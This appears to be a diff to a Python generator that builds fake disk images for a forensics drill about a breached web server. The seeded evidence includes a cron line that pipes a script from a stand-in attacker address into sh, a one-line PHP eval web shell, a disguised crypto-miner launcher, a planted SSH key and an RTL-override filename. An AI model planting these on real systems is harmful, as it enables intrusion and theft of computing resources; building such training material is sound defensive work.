@@ -12,10 +12,11 @@ from forensics.drill.seed.names import ATTACKER_ADDRESS
 INSTALLED = int(datetime(2026, 3, 2, 8, 0, tzinfo=UTC).timestamp())
 BREACHED = int(datetime(2026, 11, 21, 2, 47, 12, tzinfo=UTC).timestamp())
 POOL = "pool.example.invalid:3333"
+DEN = "/var/tmp/.k"  # noqa: S108 - on a disk that is made here, not on this machine's
 
 MINER = f"""#!/bin/sh
 # kthreadd
-exec /var/tmp/.k/xm -o {POOL} -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZ --cpu-max-threads-hint=75
+exec /var/tmp/.k/xm -o {POOL} -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt --cpu-max-threads-hint=75
 """
 CRON = "*/7 * * * * root curl -fsS http://198.51.100.23/k.sh | sh >/dev/null 2>&1\n"
 KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ4k0XQv0l9m8Yx2cT1b7n3uVqWzR5sE6dF8gH0jK2lM root@kali\n"
@@ -37,8 +38,8 @@ def _auth_log() -> str:
     entry = (
         f"2026-11-21T02:47:12.418231+00:00 web-1 sshd[2391]: Accepted publickey for ec2-user from "
         f"{ATTACKER_ADDRESS} port 51122 ssh2: ED25519 SHA256:q1mJ0o5xk3z7b9d1f3h5j7l9n1p3r5t7v9x1z3B5D7E\n"
-        f"2026-11-21T02:47:31.020114+00:00 web-1 sudo: ec2-user : TTY=pts/0 ; PWD=/home/ec2-user ; USER=root ; "
-        f"COMMAND=/bin/bash\n"
+        f"2026-11-21T02:47:31.020114+00:00 web-1 sudo: ec2-user : TTY=pts/0 ; PWD=/home/ec2-user ; "
+        f"USER=root ; COMMAND=/bin/bash\n"
     )
     return tries + entry
 
@@ -46,7 +47,9 @@ def _auth_log() -> str:
 def _linux(host: str) -> Iterable[File]:
     yield File("/etc/hostname", f"{host}\n".encode())
     yield File("/etc/os-release", b'NAME="Harbour Linux"\nID=harbour\nVERSION_ID="12"\n')
-    yield File("/etc/passwd", b"root:x:0:0:root:/root:/bin/bash\nec2-user:x:1000:1000::/home/ec2-user:/bin/bash\n")
+    yield File(
+        "/etc/passwd", b"root:x:0:0:root:/root:/bin/bash\nec2-user:x:1000:1000::/home/ec2-user:/bin/bash\n"
+    )
     yield File("/etc/fstab", b"/dev/xvda1 / ext2 defaults 0 1\n/dev/xvdb /srv ext2 defaults 0 2\n")
     yield File("/etc/localtime", link="/usr/share/zoneinfo/UTC")
     yield File("/home/ec2-user/.ssh/authorized_keys", OWN_KEY.encode(), 0o600, 1000)
@@ -65,17 +68,19 @@ def web_root() -> bytes:
         File("/home/ec2-user/.ssh/authorized_keys", (OWN_KEY + KEY).encode(), 0o600, 1000, BREACHED),
         File("/etc/cron.d/0sync", CRON.encode(), changed=BREACHED + 40),
         File("/var/log/auth.log", _auth_log().encode(), 0o640),
-        File("/var/tmp/.k/k.sh", MINER.encode(), 0o755, changed=BREACHED + 60),
-        File("/var/tmp/.k/xm", _filler("xm", 300_000), 0o755, changed=BREACHED + 61),
+        File(f"{DEN}/k.sh", MINER.encode(), 0o755, changed=BREACHED + 60),
+        File(f"{DEN}/xm", _filler("xm", 300_000), 0o755, changed=BREACHED + 61),
         File("/root/.bash_history", HISTORY.encode(), 0o600, changed=BREACHED + 90, deleted=BREACHED + 120),
-        File("/tmp/\u202egnp.sh", b"#!/bin/sh\nrm -- \"$0\"\n", 0o755, changed=BREACHED + 30),
+        File("/srv/\u202egnp.sh", b'#!/bin/sh\nrm -- "$0"\n', 0o755, changed=BREACHED + 30),
     ]
     return build(files, label="root", uuid=b"harbour-web-root", now=INSTALLED)
 
 
 def web_data() -> bytes:
     """Write the data disk of the web server."""
-    orders = "".join(f"{number},2026-11-{1 + number % 20:02d},{number * 7 % 997}.00\n" for number in range(4000))
+    orders = "".join(
+        f"{number},2026-11-{1 + number % 20:02d},{number * 7 % 997}.00\n" for number in range(4000)
+    )
     files = [
         File("/orders.csv", ("id,day,amount\n" + orders).encode()),
         File("/upload/shell.php", b"<?php @eval($_POST['c']); ?>\n", owner=33, changed=BREACHED - 400),
@@ -90,7 +95,9 @@ def plain(host: str) -> bytes:
 
 def detached() -> bytes:
     """Write the disk that the attacker detached and left behind."""
-    files = [File("/customers.sql", b"INSERT INTO customers VALUES (1,'x');\n" * 3000, changed=BREACHED + 600)]
+    files = [
+        File("/customers.sql", b"INSERT INTO customers VALUES (1,'x');\n" * 3000, changed=BREACHED + 600)
+    ]
     return build(files, label="loot", uuid=b"left-behind-disk", now=BREACHED)
 
 
